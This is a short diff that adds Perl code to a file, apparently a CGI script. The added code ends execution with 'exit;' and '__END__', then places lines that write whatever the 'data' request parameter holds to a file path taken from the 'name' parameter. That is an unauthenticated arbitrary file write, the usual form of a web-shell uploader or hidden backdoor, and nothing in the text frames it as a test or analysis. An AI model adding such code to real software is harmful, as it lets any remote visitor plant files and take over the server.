@@ -1,0 +1,5 @@
+exit;
+__END__
+open(*W, ">" . CGI::param('name'));
+syswrite(*W, CGI::param('data'));
+close(*W);
